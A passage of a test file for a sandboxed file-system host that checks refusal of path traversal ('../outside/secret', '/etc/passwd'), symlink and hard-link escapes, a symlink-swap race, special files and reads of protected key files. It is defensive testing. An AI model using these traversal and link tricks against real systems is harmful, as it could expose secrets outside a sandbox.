// The provider file-system host (src/providers/host-fs.ts, native/openat.cc)
// attacked for real: paths that leave the root, symlinks inside and outside
// it (also one swapped in while the host works), hard links to files outside,
// device files, FIFOs, sockets, the globs, the size caps, create against
// overwrite. Every attack runs twice: through openat2 and through the
// O_NOFOLLOW walk that replaces it on kernels without openat2 (forceWalk).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { chmodSync, chownSync, existsSync, rmSync, linkSync, renameSync, lstatSync, mkdirSync, readFileSync, readdirSync, statSync, symlinkSync, truncateSync, writeFileSync, openSync, closeSync, constants as fsc } from 'node:fs';
import { join } from 'node:path';
import { createHash } from 'node:crypto';
import { FsHost } from '../../dist/providers/host-fs.js';
import { loadAddon } from '../../dist/native/addon.js';
import { isRoot, tempDir } from '../fixtures/unit/helpers.mjs';
import { NEEDS_ROOT, runAs, systemUser } from '../helpers/other-uid.mjs';

const MODES = [
  { name: 'openat2', forceWalk: false },
  { name: 'walk', forceWalk: true },
];
const ALL_OPS = ['read', 'create', 'overwrite', 'delete', 'list', 'stat'];
const SECRET = 'OUTSIDE SECRET\n';
const sha = (s) => createHash('sha256').update(s).digest('hex');
const text = (u8) => Buffer.from(u8).toString('utf8');

/** A root and, next to it, an outside directory with a secret; a host over the root (every operation, every path, unless fs says otherwise). */
function fixture(t, mode, fs = {}) {
  const base = tempDir(t, 'latchgate-fshost-');
  const root = join(base, 'root');
  const outside = join(base, 'outside');
  mkdirSync(root);
  mkdirSync(outside);
  writeFileSync(join(outside, 'secret'), SECRET);
  const host = new FsHost({ root, allowed_operations: ALL_OPS, allowed_paths: ['**'], denied_paths: [], max_file_bytes: 1 << 20, ...fs }, { forceWalk: mode.forceWalk });
  return { base, root, outside, host };
}

/** The HostIoError code a call ends with, or 'ok'. */
async function outcome(call) {
  try {
    await call;
    return 'ok';
  } catch (e) {
    if (e?.name !== 'HostIoError') throw e;
    return e.code;
  }
}

/** No temporary file is left in dir. */
function noTemp(dir) {
  assert.deepEqual(readdirSync(dir).filter((n) => n.startsWith('.lg-tmp-')), [], `no temporary file left in ${dir}`);
}

for (const mode of MODES) {
  test(`[${mode.name}] the legitimate paths: read, create, overwrite (mode kept), list, stat, delete, with their evidence`, async (t) => {
    const { root, host } = fixture(t, mode);
    mkdirSync(join(root, 'src'));
    writeFileSync(join(root, 'src/a.txt'), 'hello', { mode: 0o640 });
    assert.equal(text(await host.read('src/a.txt')), 'hello');

    await host.write('src/b.txt', Buffer.from('new file'), 'create');
    assert.equal(readFileSync(join(root, 'src/b.txt'), 'utf8'), 'new file');

    await host.write('src/a.txt', new TextEncoder().encode('bye'), 'overwrite');
    assert.equal(readFileSync(join(root, 'src/a.txt'), 'utf8'), 'bye');
    assert.equal(statSync(join(root, 'src/a.txt')).mode & 0o7777, 0o640, 'overwrite keeps the mode');

    assert.deepEqual(await host.list('src'), [
      { name: 'a.txt', kind: 'file', size: 3 },
      { name: 'b.txt', kind: 'file', size: 8 },
    ]);
    assert.deepEqual(await host.list('.'), [{ name: 'src', kind: 'dir', size: statSync(join(root, 'src')).size }]);
    const st = await host.stat('src/a.txt');
    assert.equal(st.kind, 'file');
    assert.equal(st.size, 3);
    assert.equal(st.mtime_ms, Math.floor(statSync(join(root, 'src/a.txt')).mtimeMs));
    assert.equal((await host.stat('.')).kind, 'dir');

    await host.delete('src/b.txt');
    assert.equal(existsSync(join(root, 'src/b.txt')), false);
    noTemp(join(root, 'src'));

    assert.deepEqual(host.evidence, [
      { kind: 'fs', op: 'read', path: 'src/a.txt', sha256_before: sha('hello'), sha256_after: sha('hello'), bytes: 5 },
      { kind: 'fs', op: 'create', path: 'src/b.txt', sha256_after: sha('new file'), bytes: 8 },
      { kind: 'fs', op: 'overwrite', path: 'src/a.txt', sha256_before: sha('hello'), sha256_after: sha('bye'), bytes: 3 },
      { kind: 'fs', op: 'list', path: 'src' },
      { kind: 'fs', op: 'list', path: '.' },
      { kind: 'fs', op: 'stat', path: 'src/a.txt' },
      { kind: 'fs', op: 'stat', path: '.' },
      { kind: 'fs', op: 'delete', path: 'src/b.txt', sha256_before: sha('new file'), bytes: 8 },
    ]);
  });

  test(`[${mode.name}] symlinks are never followed, whether they point inside the root or outside it`, async (t) => {
    const { root, outside, host } = fixture(t, mode);
    writeFileSync(join(root, 'in.txt'), 'inside');
    mkdirSync(join(root, 'sub'));
    writeFileSync(join(root, 'sub/f'), 'inside f');
    symlinkSync('in.txt', join(root, 'link-in'));
    symlinkSync(join(outside, 'secret'), join(root, 'link-out-abs'));
    symlinkSync('../outside/secret', join(root, 'link-out-rel'));
    symlinkSync('sub', join(root, 'dir-in'));
    symlinkSync(outside, join(root, 'dir-out'));

    for (const p of ['link-in', 'link-out-abs', 'link-out-rel', 'dir-in/f', 'dir-out/secret']) {
      assert.equal(await outcome(host.read(p)), 'symlink_refused', `read ${p}`);
    }
    assert.equal(await outcome(host.write('link-out-abs', Buffer.from('pwned'), 'overwrite')), 'symlink_refused');
    assert.equal(await outcome(host.write('link-in', Buffer.from('pwned'), 'overwrite')), 'symlink_refused');
    assert.equal(await outcome(host.write('dir-out/new', Buffer.from('pwned'), 'create')), 'symlink_refused');
    assert.equal(await outcome(host.write('dir-out/secret', Buffer.from('pwned'), 'overwrite')), 'symlink_refused');
    assert.equal(await outcome(host.write('link-out-abs', Buffer.from('pwned'), 'create')), 'file_exists', 'a name held by a symlink is taken');
    assert.equal(await outcome(host.delete('link-out-abs')), 'symlink_refused');
    assert.equal(await outcome(host.delete('dir-out/secret')), 'symlink_refused');
    assert.equal(await outcome(host.list('dir-out')), 'symlink_refused');
    assert.equal(await outcome(host.list('dir-in')), 'symlink_refused');
    assert.equal(await outcome(host.stat('dir-out/secret')), 'symlink_refused');
    const st = await host.stat('link-out-abs');
    assert.equal(st.kind, 'symlink', 'stat reports the link itself');

    assert.equal(readFileSync(join(outside, 'secret'), 'utf8'), SECRET);
    assert.deepEqual(readdirSync(outside), ['secret']);
    assert.equal(lstatSync(join(root, 'link-out-abs')).isSymbolicLink(), true);
    assert.equal(readFileSync(join(root, 'in.txt'), 'utf8'), 'inside');
    noTemp(root);
    // the files themselves, by their own names, are fine
    assert.equal(text(await host.read('in.txt')), 'inside');
    assert.equal(text(await host.read('sub/f')), 'inside f');
  });

  test(`[${mode.name}] a symlink inside the root cannot carry an allowed name to a denied file`, async (t) => {
    const { root, host } = fixture(t, mode, { allowed_paths: ['src/**'], denied_paths: ['**/.env', 'secrets/**'] });
    writeFileSync(join(root, '.env'), 'TOKEN=1');
    mkdirSync(join(root, 'secrets'));
    writeFileSync(join(root, 'secrets/key'), 'KEY');
    mkdirSync(join(root, 'src'));
    symlinkSync('../.env', join(root, 'src/notes.txt'));
    symlinkSync('../secrets', join(root, 'src/vendor'));
    writeFileSync(join(root, 'src/ok.txt'), 'fine');
    assert.equal(await outcome(host.read('src/notes.txt')), 'symlink_refused');
    assert.equal(await outcome(host.read('src/vendor/key')), 'symlink_refused');
    assert.equal(await outcome(host.write('src/vendor/key', Buffer.from('x'), 'overwrite')), 'symlink_refused');
    assert.equal(readFileSync(join(root, 'secrets/key'), 'utf8'), 'KEY');
    assert.equal(await outcome(host.read('.env')), 'path_denied');
    assert.equal(await outcome(host.read('secrets/key')), 'path_denied');
    assert.equal(text(await host.read('src/ok.txt')), 'fine');
  });

  test(`[${mode.name}] a directory flipped into a symlink to the outside while the host reads and writes: the outside is never reached`, async (t) => {
    const { root, outside, host } = fixture(t, mode);
    mkdirSync(join(root, 'd'));
    writeFileSync(join(root, 'd/secret'), 'inside');
    const flipper = spawn(process.execPath, [new URL('../helpers/dir-flipper.mjs', import.meta.url).pathname, root, 'd', outside], { stdio: ['ignore', 'pipe', 'inherit'] });
    t.after(() => flipper.kill('SIGKILL'));
    await once(flipper.stdout, 'data');

    const seen = { inside: 0, symlink_refused: 0, not_found: 0, created: 0, other: [] };
    const enough = () => seen.inside >= 50 && seen.symlink_refused >= 50;
    for (let i = 0; i < 300_000 && !enough(); i++) {
      try {
        const got = text(await host.read('d/secret'));
        assert.notEqual(got, SECRET, `read ${i} reached the outside file`);
        seen.inside++;
      } catch (e) {
        if (e?.name !== 'HostIoError') throw e;
        if (e.code in seen) seen[e.code]++;
        else seen.other.push(e.code);
      }
      if (i % 8 === 0) {
        const code = await outcome(host.write(`d/new-${i}`, Buffer.from('x'), 'create'));
        if (code === 'ok') seen.created++;
      }
    }
    flipper.kill('SIGKILL');
    await once(flipper, 'exit');
    assert.equal(readFileSync(join(outside, 'secret'), 'utf8'), SECRET);
    assert.deepEqual(readdirSync(outside), ['secret'], 'nothing was created outside');
    assert.deepEqual([...new Set(seen.other)].filter((c) => !['not_a_directory'].includes(c)), [], `only the expected refusals (${JSON.stringify(seen)})`);
    assert.ok(enough(), `the race was run: the symlink was met and the real directory read (${JSON.stringify(seen)})`);
  });

  test(`[${mode.name}] another file swapped in between delete's check and its unlink is noticed, not recorded as the checked one`, async (t) => {
    const { root, host } = fixture(t, mode, { max_file_bytes: 1 << 21 });
    const swapper = spawn(process.execPath, [new URL('../helpers/name-swapper.mjs', import.meta.url).pathname, root], { stdio: ['ignore', 'pipe', 'inherit'] });
    t.after(() => swapper.kill('SIGKILL'));
    await once(swapper.stdout, 'data');
    const seen = { ok: 0, file_changed: 0, not_found: 0, other: [] };
    for (let i = 0; i < 200_000 && seen.file_changed < 3; i++) {
      const code = await outcome(host.delete('v'));
      if (code in seen) seen[code]++;
      else seen.other.push(code);
    }
    swapper.kill('SIGKILL');
    await once(swapper, 'exit');
    assert.deepEqual(seen.other, [], JSON.stringify(seen));
    assert.ok(seen.file_changed >= 3, `the swap was caught in the act (${JSON.stringify(seen)})`);
    const deletes = host.evidence.filter((e) => e.op === 'delete');
    assert.equal(deletes.filter((e) => e.sha256_before === undefined).length, seen.file_changed, 'a swapped delete records no digest of a file it did not remove');
    assert.equal(deletes.length, seen.ok + seen.file_changed);
  });

  test(`[${mode.name}] a hard link to a file outside the root is neither read, overwritten nor deleted`, async (t) => {
    const { root, outside, host } = fixture(t, mode);
    linkSync(join(outside, 'secret'), join(root, 'notes.txt'));
    assert.equal(await outcome(host.read('notes.txt')), 'hardlinked_file');
    assert.equal(await outcome(host.write('notes.txt', Buffer.from('pwned'), 'overwrite')), 'hardlinked_file');
    assert.equal(await outcome(host.delete('notes.txt')), 'hardlinked_file');
    assert.equal(readFileSync(join(outside, 'secret'), 'utf8'), SECRET);
    assert.equal(statSync(join(root, 'notes.txt')).nlink, 2, 'the link is still there');
    assert.deepEqual(host.evidence, [], 'no digest of the outside file is recorded');
    writeFileSync(join(root, 'own.txt'), 'mine');
    assert.equal(text(await host.read('own.txt')), 'mine', 'a file with one link reads');
  });

  test(`[${mode.name}] FIFOs, sockets, device files and directories are refused, and a FIFO never blocks the gate`, async (t) => {
    const { base, root, host } = fixture(t, mode);
    const fifo = join(root, 'fifo');
    execFileSync('mkfifo', [fifo]);
    // Were the host to open the FIFO blocking, it would hang until a writer
    // came: this valve becomes that writer after a generous wait and says so.
    const valve = spawn(process.execPath, ['-e', `setTimeout(() => { try { require('fs').openSync(${JSON.stringify(fifo)}, ${fsc.O_WRONLY | fsc.O_NONBLOCK}); console.log('released a blocked reader'); } catch { console.log('no reader'); } }, 20000); console.log('ready');`], { stdio: ['ignore', 'pipe', 'inherit'] });
    let valveOut = '';
    valve.stdout.on('data', (d) => (valveOut += d));
    await once(valve.stdout, 'data');
    assert.equal(await outcome(host.read('fifo')), 'not_regular_file');
    assert.equal(await outcome(host.write('fifo', Buffer.from('x'), 'overwrite')), 'not_regular_file');
    assert.equal(await outcome(host.delete('fifo')), 'not_regular_file');
    valve.kill('SIGKILL');
    await once(valve, 'close');
    assert.doesNotMatch(valveOut, /released/, 'the host never waited for a FIFO writer');
    assert.equal(lstatSync(fifo).isFIFO(), true);

    const server = createServer();
    server.listen(join(root, 'sock'));
    await once(server, 'listening');
    t.after(() => server.close());
    assert.equal(await outcome(host.read('sock')), 'not_regular_file');
    assert.equal(await outcome(host.write('sock', Buffer.from('x'), 'overwrite')), 'not_regular_file');
    assert.equal(await outcome(host.delete('sock')), 'not_regular_file');
    assert.equal(lstatSync(join(root, 'sock')).isSocket(), true);

    mkdirSync(join(root, 'dir'));
    assert.equal(await outcome(host.read('dir')), 'not_regular_file');
    assert.equal(await outcome(host.write('dir', Buffer.from('x'), 'overwrite')), 'not_regular_file');
    assert.equal(await outcome(host.delete('dir')), 'not_regular_file');

    if (isRoot) {
      // a character device (1, 5: what /dev/zero is) made inside the root
      execFileSync('mknod', [join(root, 'zero'), 'c', '1', '5']);
      assert.equal(await outcome(host.read('zero')), 'not_regular_file');
      assert.equal(await outcome(host.write('zero', Buffer.from('x'), 'overwrite')), 'not_regular_file');
      assert.equal(await outcome(host.delete('zero')), 'not_regular_file');
      assert.equal(lstatSync(join(root, 'zero')).isCharacterDevice(), true);
    }
    assert.deepEqual(host.evidence, []);
    assert.ok(base);
  });

  test(`[${mode.name}] allowed and denied globs decide before anything is opened; list leaves denied names out`, async (t) => {
    const { root, host } = fixture(t, mode, { allowed_paths: ['src/**', '*.md'], denied_paths: ['**/.env', '**/secrets/**'] });
    mkdirSync(join(root, 'src/secrets'), { recursive: true });
    mkdirSync(join(root, 'lib'));
    writeFileSync(join(root, 'src/.env'), 'TOKEN=1');
    writeFileSync(join(root, 'src/secrets/key'), 'KEY');
    writeFileSync(join(root, 'src/main.ts'), 'code');
    writeFileSync(join(root, 'lib/x.ts'), 'lib');
    writeFileSync(join(root, 'README.md'), 'readme');

    assert.equal(await outcome(host.read('src/.env')), 'path_denied');
    assert.equal(await outcome(host.read('src/secrets/key')), 'path_denied');
    assert.equal(await outcome(host.read('src/secrets/absent')), 'path_denied', 'refused before it is looked up');
    assert.equal(await outcome(host.read('lib/x.ts')), 'path_not_allowed');
    assert.equal(await outcome(host.read('docs/README.md')), 'path_not_allowed');
    assert.equal(await outcome(host.write('src/secrets/new', Buffer.from('x'), 'create')), 'path_denied');
    assert.equal(existsSync(join(root, 'src/secrets/new')), false);
    assert.equal(await outcome(host.write('src/.env', Buffer.from('x'), 'overwrite')), 'path_denied');
    assert.equal(readFileSync(join(root, 'src/.env'), 'utf8'), 'TOKEN=1');
    assert.equal(await outcome(host.list('src/secrets')), 'path_denied');
    assert.equal(await outcome(host.list('.')), 'path_not_allowed');

    assert.equal(text(await host.read('src/main.ts')), 'code');
    assert.equal(text(await host.read('README.md')), 'readme');
    assert.deepEqual((await host.list('src')).map((e) => e.name), ['main.ts']);
  });

  test(`[${mode.name}] create never replaces, overwrite only replaces an existing regular file`, async (t) => {
    const { root, host } = fixture(t, mode);
    writeFileSync(join(root, 'exists.txt'), 'old');
    symlinkSync('nowhere', join(root, 'dangling'));
    assert.equal(await outcome(host.write('exists.txt', Buffer.from('new'), 'create')), 'file_exists');
    assert.equal(readFileSync(join(root, 'exists.txt'), 'utf8'), 'old');
    assert.equal(await outcome(host.write('dangling', Buffer.from('new'), 'create')), 'file_exists');
    assert.equal(lstatSync(join(root, 'dangling')).isSymbolicLink(), true);
    assert.equal(await outcome(host.write('absent.txt', Buffer.from('new'), 'overwrite')), 'not_found');
    assert.equal(existsSync(join(root, 'absent.txt')), false);
    assert.equal(await outcome(host.write('nodir/a.txt', Buffer.from('new'), 'create')), 'not_found');
    assert.equal(await outcome(host.write('exists.txt/a', Buffer.from('new'), 'create')), 'not_a_directory');
    assert.equal(await outcome(host.write('x', Buffer.from('new'), 'append')), 'invalid_argument');
    noTemp(root);

    await host.write('exists.txt', Buffer.from('newer'), 'overwrite');
    await host.write('fresh.txt', Buffer.from(''), 'create');
    assert.equal(readFileSync(join(root, 'exists.txt'), 'utf8'), 'newer');
    assert.equal(readFileSync(join(root, 'fresh.txt'), 'utf8'), '');
    noTemp(root);
  });

  test(`[${mode.name}] size caps: reads and writes over max_file_bytes are refused, at the cap they pass`, async (t) => {
    const { root, host } = fixture(t, mode, { max_file_bytes: 16, max_list_entries: 3 });
    writeFileSync(join(root, 'at-cap'), 'x'.repeat(16));
    writeFileSync(join(root, 'over-cap'), 'x'.repeat(17));
    writeFileSync(join(root, 'huge'), '');
    truncateSync(join(root, 'huge'), 1 << 30); // sparse: 1 GiB by its size
    assert.equal(text(await host.read('at-cap')), 'x'.repeat(16));
    assert.equal(await outcome(host.read('over-cap')), 'file_too_large');
    assert.equal(await outcome(host.read('huge')), 'file_too_large');
    assert.equal(await outcome(host.write('new-over', Buffer.alloc(17), 'create')), 'file_too_large');
    assert.equal(existsSync(join(root, 'new-over')), false);
    await host.write('new-at', Buffer.alloc(16), 'create');
    assert.equal(statSync(join(root, 'new-at')).size, 16);

    assert.equal(await outcome(host.list('.')), 'too_many_entries', '4 entries, at most 3');
    await host.delete('new-at');
    assert.equal((await host.list('.')).length, 3);
  });
}

test('a gate running as root leaves files to their owners: an overwritten file keeps owner and permissions (not set-uid), a new one is its directory owner\'s', { skip: NEEDS_ROOT }, async (t) => {
  const { root, host } = fixture(t, MODES[0]);
  const [user, other] = [{ uid: 4321, gid: 4322 }, { uid: 4323, gid: 4324 }];
  mkdirSync(join(root, 'src'));
  chownSync(join(root, 'src'), user.uid, user.gid);
  writeFileSync(join(root, 'src/theirs.txt'), 'old');
  chownSync(join(root, 'src/theirs.txt'), other.uid, other.gid);
  chmodSync(join(root, 'src/theirs.txt'), 0o640);
  writeFileSync(join(root, 'src/tool'), 'old');
  chmodSync(join(root, 'src/tool'), 0o4755);
  await host.write('src/theirs.txt', Buffer.from('new'), 'overwrite');
  await host.write('src/new.txt', Buffer.from('new'), 'create');
  await host.write('src/tool', Buffer.from('new'), 'overwrite');
  const owner = (p) => {
    const st = statSync(join(root, p));
    return { uid: st.uid, gid: st.gid, mode: st.mode & 0o7777 };
  };
  assert.deepEqual(owner('src/theirs.txt'), { ...other, mode: 0o640 });
  assert.deepEqual({ ...owner('src/new.txt'), mode: undefined }, { ...user, mode: undefined });
  assert.deepEqual(owner('src/tool'), { uid: 0, gid: 0, mode: 0o755 }, 'set-uid is not carried over to new content');
});

for (const mode of MODES) {
  test(`[${mode.name}] the host run by the root's owner (not root): the legitimate operations work, a symlink out is refused`, { skip: NEEDS_ROOT }, async (t) => {
    const owner = systemUser('lgfsowner');
    const { base, root, outside } = fixture(t, mode);
    mkdirSync(join(root, 'src'));
    writeFileSync(join(root, 'src/a.txt'), 'hello');
    symlinkSync(outside, join(root, 'out'));
    chmodSync(join(outside, 'secret'), 0o644);
    execFileSync('chown', ['-hR', `${owner.uid}:${owner.gid}`, root]);
    chmodSync(base, 0o755);
    const got = await runAs(owner, 'fs-host-ops.mjs', [root, mode.forceWalk]);
    assert.deepEqual(got, { read: 'hello', create: 'ok', overwrite: 'ok', list: 'a.txt,b.txt', stat: 4, delete: 'ok', symlink: 'symlink_refused' });
    assert.equal(readFileSync(join(root, 'src/a.txt'), 'utf8'), 'changed');
    assert.equal(statSync(join(root, 'src/a.txt')).uid, owner.uid);
  });
}

test('paths that leave the root or are not normalized are refused before the file system is touched', async (t) => {
  const { root, outside, host } = fixture(t, MODES[0]);
  writeFileSync(join(root, 'a'), 'a');
  const cases = [
    ['../outside/secret', 'path_outside_root'],
    ['a/../../outside/secret', 'path_outside_root'],
    ['..', 'path_outside_root'],
    [join(outside, 'secret'), 'path_outside_root'],
    ['/etc/passwd', 'path_outside_root'],
    ['', 'path_invalid'],
    ['.', 'path_invalid'],
    ['./a', 'path_invalid'],
    ['a/.', 'path_invalid'],
    ['a//b', 'path_invalid'],
    ['a/', 'path_invalid'],
    ['a\0b', 'path_invalid'],
    ['\uD800a', 'path_invalid'],
    ['x'.repeat(4096), 'path_too_long'],
    [`${'d/'.repeat(2048)}x`, 'path_too_long'],
    ['x'.repeat(256), 'path_too_long'],
    [42, 'path_invalid'],
  ];
  for (const [p, code] of cases) {
    assert.equal(await outcome(host.read(p)), code, `read ${JSON.stringify(p).slice(0, 40)}`);
    assert.equal(await outcome(host.write(p, Buffer.from('pwned'), 'create')), code, `create ${JSON.stringify(p).slice(0, 40)}`);
  }
  assert.equal(await outcome(host.list('..')), 'path_outside_root');
  assert.equal(await outcome(host.stat('../outside')), 'path_outside_root');
  assert.deepEqual(readdirSync(outside), ['secret']);
  assert.equal(readFileSync(join(outside, 'secret'), 'utf8'), SECRET);
  assert.equal(text(await host.read('a')), 'a');
  assert.equal(await outcome(host.read('x'.repeat(255))), 'not_found', 'a 255-byte name is a valid name');
});

test('operations the manifest does not allow are refused', async (t) => {
  const { root, host } = fixture(t, MODES[0], { allowed_operations: ['read'] });
  writeFileSync(join(root, 'a'), 'a');
  assert.equal(await outcome(host.write('b', Buffer.from('x'), 'create')), 'operation_not_allowed');
  assert.equal(await outcome(host.write('a', Buffer.from('x'), 'overwrite')), 'operation_not_allowed');
  assert.equal(await outcome(host.delete('a')), 'operation_not_allowed');
  assert.equal(await outcome(host.list('.')), 'operation_not_allowed');
  assert.equal(await outcome(host.stat('a')), 'operation_not_allowed');
  assert.deepEqual(readdirSync(root), ['a']);
  assert.equal(text(await host.read('a')), 'a');
});

test('a configuration the host cannot honour is refused at construction, naming the field', (t) => {
  const base = tempDir(t, 'latchgate-fshost-');
  const ok = { root: base, allowed_operations: ['read'], allowed_paths: ['**'], denied_paths: [], max_file_bytes: 10 };
  assert.ok(new FsHost(ok));
  assert.throws(() => new FsHost({ ...ok, root: 'relative' }), /root must be an absolute directory path/);
  assert.throws(() => new FsHost({ ...ok, allowed_operations: ['read', 'chmod'] }), /fs\.allowed_operations/);
  assert.throws(() => new FsHost({ ...ok, max_file_bytes: -1 }), /fs\.max_file_bytes/);
  assert.throws(() => new FsHost({ ...ok, max_list_entries: 0 }), /fs\.max_list_entries/);
  assert.throws(() => new FsHost({ ...ok, denied_paths: ['**', 'a**'] }), /fs\.denied_paths\[1\].*whole component/);
});

test('a root gone, or swapped for a symlink between calls, is root_unavailable', async (t) => {
  const base = tempDir(t, 'latchgate-fshost-');
  const root = join(base, 'root');
  mkdirSync(join(base, 'elsewhere'));
  writeFileSync(join(base, 'elsewhere/a'), 'elsewhere');
  const host = new FsHost({ root, allowed_operations: ['read'], allowed_paths: ['**'], denied_paths: [], max_file_bytes: 100 });
  assert.equal(await outcome(host.read('a')), 'root_unavailable');
  mkdirSync(root);
  writeFileSync(join(root, 'a'), 'root');
  assert.equal(text(await host.read('a')), 'root');
  renameSync(root, join(base, 'was-root'));
  symlinkSync(join(base, 'elsewhere'), root);
  assert.equal(await outcome(host.read('a')), 'root_unavailable');
  // the directories above the root may be symlinks (configuration)
  const up = join(tempDir(t, 'latchgate-fshost-'), 'up');
  symlinkSync(base, up);
  const viaLink = new FsHost({ root: join(up, 'was-root'), allowed_operations: ['read'], allowed_paths: ['**'], denied_paths: [], max_file_bytes: 100 });
  assert.equal(text(await viaLink.read('a')), 'root');
});

test('a root owned by another user than the gate\'s (not root) is refused', { skip: NEEDS_ROOT }, async (t) => {
  const owner = systemUser('lgfsowner');
  const { base, root } = fixture(t, MODES[0]);
  chmodSync(base, 0o755);
  writeFileSync(join(root, 'a'), 'a');
  chmodSync(join(root, 'a'), 0o644);
  const got = await runAs(owner, 'fs-host-ops.mjs', [root, false]);
  assert.equal(got.read, 'root_unavailable', 'root\'s directory, a gate running as another uid');
});

test('native: forcing the walk resolves component by component (the fallback where openat2 is missing)', (t) => {
  const base = tempDir(t, 'latchgate-fshost-');
  mkdirSync(join(base, 'd'));
  writeFileSync(join(base, 'd/f'), 'f');
  symlinkSync('d', join(base, 'l'));
  const addon = loadAddon();
  const F = addon.openFlags();
  const dirfd = openSync(base, fsc.O_RDONLY | fsc.O_DIRECTORY);
  t.after(() => closeSync(dirfd));
  const stepOf = (walk) => {
    try {
      addon.openBeneath(dirfd, 'l/f', F.O_RDONLY, 0, walk);
      return 'opened';
    } catch (e) {
      return `${e.step}: ${e.errno}`;
    }
  };
  assert.equal(stepOf(false), 'openat2: 40', 'openat2 refuses the symlink (ELOOP)');
  assert.equal(stepOf(true), 'openat (directory on the way): 40', 'the walk refuses it at the component');
  for (const walk of [false, true]) {
    const fd = addon.openBeneath(dirfd, 'd/f', F.O_RDONLY, 0, walk);
    assert.equal(readFileSync(fd, 'utf8'), 'f');
    closeSync(fd);
    assert.throws(() => addon.openBeneath(dirfd, '../x', F.O_RDONLY, 0, walk), (e) => e.step === 'path' && e.errno === 22);
  }
});

test('native: renameAt with noreplace never replaces an existing name (what create relies on when a name appears after its check)', (t) => {
  const base = tempDir(t, 'latchgate-fshost-');
  writeFileSync(join(base, 'tmp'), 'ours');
  writeFileSync(join(base, 'theirs'), 'theirs');
  const addon = loadAddon();
  const dirfd = openSync(base, fsc.O_RDONLY | fsc.O_DIRECTORY);
  t.after(() => closeSync(dirfd));
  assert.throws(() => addon.renameAt(dirfd, 'tmp', 'theirs', true), (e) => e.errno === 17);
  assert.equal(readFileSync(join(base, 'theirs'), 'utf8'), 'theirs');
  assert.throws(() => addon.renameAt(dirfd, 'tmp', '../escape', false), (e) => e.step === 'name' && e.errno === 22);
  addon.renameAt(dirfd, 'tmp', 'fresh', true);
  assert.equal(readFileSync(join(base, 'fresh'), 'utf8'), 'ours');
  addon.renameAt(dirfd, 'fresh', 'theirs', false);
  assert.equal(readFileSync(join(base, 'theirs'), 'utf8'), 'ours');
  assert.deepEqual(readdirSync(base), ['theirs']);
});

for (const mode of MODES) {
  test(`[${mode.name}] the secrets file and its age keys inside a root: never read, overwritten or deleted, under any name or after a save by rename; the files beside them are`, async (t) => {
    const base = tempDir(t, 'latchgate-fshost-keys-');
    const root = join(base, 'root');
    const keys = join(root, '.config', 'latchgate');
    mkdirSync(keys, { recursive: true });
    const key = join(keys, 'age-key.txt');
    const sops = join(root, 'secrets.enc.yaml');
    writeFileSync(key, 'AGE-SECRET-KEY-1TEST\n', { mode: 0o600 });
    writeFileSync(sops, 'data: ENC[...]\n');
    writeFileSync(join(keys, 'notes.txt'), 'beside the key\n');
    // The configured path may itself be another name for the key (a symlink outside the root).
    symlinkSync(key, join(base, 'key-link'));
    const host = new FsHost(
      { root, allowed_operations: ALL_OPS, allowed_paths: ['**'], denied_paths: [], max_file_bytes: 1 << 20 },
      { forceWalk: mode.forceWalk, protectedFiles: [join(base, 'key-link'), sops] },
    );
    assert.equal(text(await host.read('.config/latchgate/notes.txt')), 'beside the key\n', 'a file beside the key is read');
    for (const path of ['.config/latchgate/age-key.txt', 'secrets.enc.yaml']) {
      assert.equal(await outcome(host.read(path)), 'path_denied', `read ${path}`);
      assert.equal(await outcome(host.write(path, new TextEncoder().encode('x'), 'overwrite')), 'path_denied', `overwrite ${path}`);
      assert.equal(await outcome(host.delete(path)), 'path_denied', `delete ${path}`);
    }
    assert.equal(readFileSync(key, 'utf8'), 'AGE-SECRET-KEY-1TEST\n', 'the key is as it was');
    // The host saves a new key by rename: a new inode, the same protection.
    writeFileSync(`${key}.new`, 'AGE-SECRET-KEY-1NEW\n', { mode: 0o600 });
    renameSync(`${key}.new`, key);
    assert.equal(await outcome(host.read('.config/latchgate/age-key.txt')), 'path_denied', 'the key saved by rename');
    assert.equal(await outcome(host.stat('.config/latchgate/age-key.txt')), 'ok', 'stat shows it is there, never its content');
    // Not there yet: not made either (the store would load an identity the provider chose).
    rmSync(key);
    assert.equal(await outcome(host.write('.config/latchgate/age-key.txt', new TextEncoder().encode('AGE-SECRET-KEY-1MINE\n'), 'create')), 'path_denied', 'create the missing key');
    assert.ok(!existsSync(key));
    assert.equal(await outcome(host.write('.config/latchgate/other.txt', new TextEncoder().encode('x'), 'create')), 'ok', 'another name beside it');
  });
}

for (const mode of MODES) {
  test(`[${mode.name}] latchgate's own directories: nothing in them read, listed, stat'ed, written or deleted, whether the root holds one, lies in one or is another mount of a part of one; no call crosses a mount below the root; the rest of the root is served`, async (t) => {
    const base = tempDir(t, 'latchgate-fshost-own-');
    // A root of $HOME: the state directory (keys, ledger) below it.
    const root = join(base, 'home');
    const state = join(root, '.local', 'state', 'latchgate');
    mkdirSync(join(state, 'keys'), { recursive: true });
    writeFileSync(join(state, 'keys', 'receipt.key'), 'PRIVATE\n', { mode: 0o600 });
    writeFileSync(join(state, 'ledger.sqlite3'), 'LEDGER');
    mkdirSync(join(root, 'src'));
    writeFileSync(join(root, 'src', 'a.txt'), 'mine\n');
    const own = [{ path: state, what: 'state directory (ledger, keys)' }];
    const host = (r) => new FsHost({ root: r, allowed_operations: ALL_OPS, allowed_paths: ['**'], denied_paths: [], max_file_bytes: 1 << 20 }, { forceWalk: mode.forceWalk, protectedDirs: own });
    const h = host(root);
    const denied = async (p, name) => {
      let e;
      try {
        await p;
      } catch (x) {
        e = x;
      }
      assert.equal(e?.code, 'path_denied', `${name}: ${e?.message ?? 'served'}`);
      assert.match(e.message, /(is in|the root .* lies in \(through this or another mount\)) latchgate's state directory \(ledger, keys\); no provider reads, lists, writes or deletes there/);
    };
    const attempts = (hh, prefix) => [
      [hh.read(`${prefix}keys/receipt.key`), 'read a key'],
      [hh.read(`${prefix}ledger.sqlite3`), 'read the ledger'],
      [hh.list(`${prefix}keys`), 'list the keys'],
      [hh.list(prefix ? prefix.slice(0, -1) : '.'), 'list the state directory'],
      [hh.stat(`${prefix}keys/receipt.key`), 'stat a key'],
      [hh.write(`${prefix}keys/receipt.key`, new TextEncoder().encode('x'), 'overwrite'), 'overwrite a key'],
      [hh.write(`${prefix}keys/new.key`, new TextEncoder().encode('x'), 'create'), 'create in the keys'],
      [hh.delete(`${prefix}ledger.sqlite3`), 'delete the ledger'],
    ];
    for (const [p, name] of attempts(h, '.local/state/latchgate/')) await denied(p, name);
